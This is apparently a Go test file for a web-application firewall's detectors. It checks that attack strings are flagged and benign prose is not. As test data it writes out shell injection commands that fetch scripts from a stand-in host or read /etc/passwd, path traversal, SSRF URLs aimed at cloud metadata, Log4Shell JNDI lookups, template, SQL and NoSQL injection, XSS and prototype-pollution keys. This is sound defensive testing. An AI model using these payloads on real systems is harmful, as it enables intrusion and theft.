package rules

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// lowerInput builds an Input whose views are all the lower-case value, which
// is what the confirmers below read.
func lowerInput(s string) *Input {
	lower := strings.ToLower(s)
	return &Input{Raw: s, Decoded: s, Lower: lower, RawLower: lower, Folded: lower}
}

func TestConfirmers(t *testing.T) {
	cases := []struct {
		confirmer string
		value     string
		want      bool
	}{
		{"shell-command", "; cat /etc/passwd", true},
		{"shell-command", "a|id", true},
		{"shell-command", "`whoami`", true},
		{"shell-command", "$(curl http://x.test/a)", true},
		{"shell-command", "127.0.0.1 && ping -c 3 127.0.0.1", true},
		{"shell-command", "netstat -an", true},
		{"shell-command", "\nwget http://x.test/s.sh", true},
		{"shell-command", "() { :;}; /bin/bash -c id", true},
		{"shell-command", "net user hacker pass /add", true},
		{"shell-command", "Sorry; type your name again", false},
		{"shell-command", "Fish & chips; cat lovers welcome", false},
		{"shell-command", "You can update a visitor by passing in the `id` of the visitor", false},
		{"shell-command", "#!/bin/bash\napt-get update\ncurl -sSL https://x.test | sh", false},
		{"shell-command", "whoami", false},

		{"path-traversal", "../../etc/passwd", true},
		{"path-traversal", `..\..\windows\win.ini`, true},
		{"path-traversal", "....//....//etc/hosts", true},
		{"path-traversal", "..;/admin/secret", true},
		{"path-traversal", "/etc/shadow", true},
		{"path-traversal", "php://filter/convert.base64-encode/resource=index.php", true},
		{"path-traversal", "..0x5c..0x5cboot.ini", true},
		{"path-traversal", "..%c1%pc..%c1%pcetc", true},
		{"path-traversal", "image.png\x00.php", true},
		{"path-traversal", "https://example.com/docs/.../more", false},
		{"path-traversal", `<a href="../">up</a>`, false},
		{"path-traversal", "Wait... what happened?", false},
		{"path-traversal", "etc. hosts are listed", false},

		{"template-expr", "{{7*7}}", true},
		{"template-expr", "${7*'7'}", true},
		{"template-expr", "{{''.__class__.__mro__}}", true},
		{"template-expr", "${T(java.lang.Runtime).getRuntime().exec('id')}", true},
		{"template-expr", "<%= 7 * 7 %>", true},
		{"template-expr", "#{7*7}", true},
		{"template-expr", "{{'a'.toUpperCase()}}", true},
		{"template-expr", "#set($x = 1)", true},
		{"template-expr", "Hello {{first_name}}, your order {{ order.id }} shipped", false},
		{"template-expr", "Price: ${amount}", false},

		{"internal-url", "http://127.0.0.1/admin", true},
		{"internal-url", "http://169.254.169.254/latest/meta-data/", true},
		{"internal-url", "http://metadata.google.internal/computeMetadata/v1/", true},
		{"internal-url", "http://2130706433/", true},
		{"internal-url", "http://0x7f.1/", true},
		{"internal-url", "http://0177.0.0.1/", true},
		{"internal-url", "http://[::1]:8080/", true},
		{"internal-url", "http://[::ffff:127.0.0.1]/", true},
		{"internal-url", "http://[fd00:ec2::254]/latest/", true},
		{"internal-url", "http://localhost:6379/", true},
		{"internal-url", "http://good.example@127.0.0.1/", true},
		{"internal-url", "http://127.0.0.1.nip.io/", true},
		{"internal-url", "gopher://x.test:25/_HELO", true},
		{"internal-url", "file:///etc/passwd", true},
		{"internal-url", "http://0xa9fea9fe/", true},
		{"internal-url", "http://012.0.0.1/", true},
		{"internal-url", "https://api.example.com/webhook", false},
		{"internal-url", "https://user:pass@192.168.0.1:25060/db", false},
		{"internal-url", "see the docs at https://docs.example.org", false},
		{"private-url", "https://user:pass@192.168.0.1:25060/db", true},
		{"private-url", "http://10.0.0.5/", true},
		{"private-url", "https://api.example.com/", false},

		{"jndi-lookup", "${jndi:ldap://x.test/a}", true},
		{"jndi-lookup", "${${lower:j}ndi:ldap://x.test/a}", true},
		{"jndi-lookup", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", true},
		{"jndi-lookup", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://x.test/a}", true},
		{"jndi-lookup", "${user.name} logged in", false},

		{"nosql-javascript", "', $where: '1 == 1'", true},
		{"nosql-javascript", "{$gt: ''}", true},
		{"nosql-javascript", "';sleep(5000);", true},
		{"nosql-javascript", "' && this.password.match(/.*/)//", true},
		{"nosql-javascript", "[$ne]=1", true},
		{"nosql-javascript", "}, { password : /.*/ }", true},
		{"nosql-javascript", "Pay $20 for the ticket", false},
		{"nosql-javascript", "return policy: 30 days", false},

		{"libinjection-sqli", "1' OR '1'='1", true},
		{"libinjection-sqli", "1 UNION SELECT password FROM users--", true},
		{"libinjection-sqli", "admin'--", true},
		{"libinjection-sqli", "SELECT id, name FROM users WHERE id = $1", false},
		{"libinjection-sqli", `"LIKE" STAMP`, false},
		{"libinjection-sqli", "80% ACRYLIC AND 20% WOOL", false},
		{"libinjection-sqli", "Western Union", false},
		{"libinjection-sqli", "admin'or'a'like'a", true},
		{"libinjection-sqli", "The merino socks (3 pairs) arrived and it's even better than the photos.", false},

		{"libinjection-xss", "<script>alert(1)</script>", true},
		{"libinjection-xss", `<img src=x onerror=alert(1)>`, true},
		{"libinjection-xss", "Ben & Jerry's <3", false},
	}
	require.NotEmpty(t, cases)
	for _, tc := range cases {
		t.Run(tc.confirmer+"/"+tc.value, func(t *testing.T) {
			confirm, ok := confirmers[tc.confirmer]
			require.True(t, ok, "confirmer %s is registered", tc.confirmer)
			assert.Equal(t, tc.want, confirm(lowerInput(tc.value)))
		})
	}
}

// TestPlainProse covers the one-pass check that keeps free text away from
// libinjection: what passes as prose and what goes on to libinjection.
func TestPlainProse(t *testing.T) {
	prose := []string{
		"honestly it does exactly what it says and nothing more, which is all i wanted.",
		"the merino hiking socks (3 pairs) arrived on friday and it's even better than expected.",
		"the default is 0.2 (20 percent of table size).",
		"delete (archive) a conversation attribute",
		"you're on the fence; read the size guide and then order it by phone.",
		"a reunion of old friends, all selected by hand",
		"the one-time password (otp) is sent. a notice of change (noc) was processed.",
		"king's cross or o'hare", "201 union street", "10 group road",
		"an orderly by-election", "executes xp_ tests", "it's into the outfield",
	}
	notProse := []string{
		"1 or true", "-1 and 1", "x or sleep(5)", "(1) or (1) in (1)", "id having (1 or 1)",
		"item (select it)(now)", "socks (3 pairs", "socks 3 pairs)", "socks (3 pairs)x",
		"a ( b)", "admin'or'a'like'a", "it'", "'quoted'", "x union select 1", "1e0union select 1",
		"x union all select 1", "id order by 3", "a group by b", "procedure analyse", "into outfile x",
		"exec xp_cmdshell", "execute sp_who", "a xor b", "id 0x7e", "select name from users",
		"a; drop table users", "a = b", "a -- b", "a/*b", "a#b", "a@@version", "a|b", "a&b",
		"the reunion select 1", "a (b) select x from y", "x'union select 1",
	}
	for _, s := range prose {
		assert.True(t, isPlainProse(s), s)
	}
	for _, s := range notProse {
		assert.False(t, isPlainProse(s), s)
	}
}

func TestStackedStatement(t *testing.T) {
	stacked := []string{"a; drop table x", "1;select 1", "x;\t\r\n\fexecute sp_who", "a;b;shutdown", "x; set @a=1", "q;exec"}
	plain := []string{"fine; selected items", "a; the set_up", "x;\vselect 1", "no semicolon select", "a;executes", "a;"}
	for _, s := range stacked {
		assert.True(t, hasStackedStatement(s), s)
	}
	for _, s := range plain {
		assert.False(t, hasStackedStatement(s), s)
	}
}

// TestSQLInert covers the values the SQL confirmer declines without
// libinjection: header values and identifiers with no SQL meaning.
func TestSQLInert(t *testing.T) {
	inert := []string{
		"shopapp/5.12.1 (iphone; ios 17.4; scale/3.00)",
		"mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko) chrome/120.0.0.0 safari/537.36",
		"created_at desc", "price, name", "en-gb, en; q 0.9",
	}
	notInert := []string{
		"1 like 1", "-1 union", "(1) or (1)", ".5 div 0", "name or y", "name desc, (select 1)",
		"if(1 in (1),sleep(5),0)", "extractvalue(1,concat(0x7e,version()))", "name; drop table x",
		"name;shutdown", "a'b", "a\"b", "a`b", "name--", "name/*", "name#", "@@version", "a=b", "a<b",
		"a||b", "a&&b", "(case when 1 then 1 end)", "name limit 1", "id procedure analyse", "0x41",
		"name into outfile x", "",
	}
	for _, s := range inert {
		assert.True(t, isSQLInert(s), s)
	}
	for _, s := range notInert {
		assert.False(t, isSQLInert(s), s)
	}
}

func TestParseLooseIP(t *testing.T) {
	cases := []struct {
		host string
		want string
	}{
		{"127.0.0.1", "127.0.0.1"},
		{"2130706433", "127.0.0.1"},
		{"0x7f000001", "127.0.0.1"},
		{"0177.0.0.01", "127.0.0.1"},
		{"127.1", "127.0.0.1"},
		{"10.1.2", "10.1.0.2"},
		{"0x7f.0.0.0x1", "127.0.0.1"},
		{"::1", "::1"},
	}
	require.NotEmpty(t, cases)
	for _, tc := range cases {
		addr, ok := parseLooseIP(tc.host)
		require.True(t, ok, tc.host)
		assert.Equal(t, netip.MustParseAddr(tc.want), addr, tc.host)
	}
	for _, host := range []string{"example.com", "1.2.3.4.5", "256.1.1.1", "1.2.3.999", ""} {
		_, ok := parseLooseIP(host)
		assert.False(t, ok, host)
	}
}

func TestChecks(t *testing.T) {
	key := func(path ...string) *Input {
		in := lowerInput(path[len(path)-1])
		f := keyField(path...)
		in.Field = &f
		return in
	}
	assert.True(t, checkMongoOperatorKey(key("pass", "$ne")))
	assert.True(t, checkMongoOperatorKey(key("$where")))
	assert.False(t, checkMongoOperatorKey(key("price", "$amount")), "a $ key that is no operator")
	assert.False(t, checkMongoOperatorKey(key("ne")))
	assert.True(t, checkPrototypePollutionKey(key("__proto__")))
	assert.True(t, checkPrototypePollutionKey(key("a", "constructor", "prototype")))
	assert.True(t, checkPrototypePollutionKey(key("constructor.prototype.isAdmin")))
	assert.False(t, checkPrototypePollutionKey(key("prototype")), "prototype alone is an ordinary key")
	assert.False(t, checkPrototypePollutionKey(key("constructor")))
}

func TestTrimProsePunctuationMatchesTrim(t *testing.T) {
	const cutset = ".,:!?()*`'\"\n\t"
	for _, w := range []string{"", "word", "(word)", "\"it's\",", "...", "a.b", "`x`\t", "é!", "!!é!!", "-x-", "*\n"} {
		assert.Equal(t, strings.Trim(w, cutset), trimProsePunctuation(w), "%q", w)
	}
}
